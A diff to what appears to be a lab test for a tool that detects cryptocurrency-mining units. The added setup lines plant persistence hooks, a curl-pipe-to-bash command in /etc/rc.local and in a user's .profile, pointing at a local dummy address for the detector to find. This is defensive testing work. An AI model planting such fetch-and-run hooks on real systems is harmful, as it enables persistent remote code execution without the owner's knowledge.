@@ -11,7 +11,7 @@ from tests.lab.mining.rigs import demine, facts, find_mining
 from tests.lab.operator import fab, reboot, wait_until
 
 #: A unit with a relative script without an interpreter's name, another user's crontab, instances of
-#: a template, and a unit of which only its control group shows that it mines.
+#: a template, a unit that only its control group gives away, and lines that run what they fetch.
 SETUP = r"""
 set -e
 unit() {
@@ -36,6 +36,9 @@ echo nbminer > /opt/work/name
 printf '#!/bin/sh\nexec "/opt/work/$(cat /opt/work/name)"\n' > /opt/work/run
 chmod 755 /opt/work/run
 unit work 'ExecStart=/opt/work/run'
+printf '#!/bin/sh\ncurl -s http://127.0.0.9:9/x.sh | bash\n' > /etc/rc.local
+chmod 755 /etc/rc.local
+echo 'curl -s http://127.0.0.9:9/y.sh | bash' >> /home/me/.profile
 systemctl daemon-reload
 systemctl --quiet enable mining work pool@0 pool@1
 """
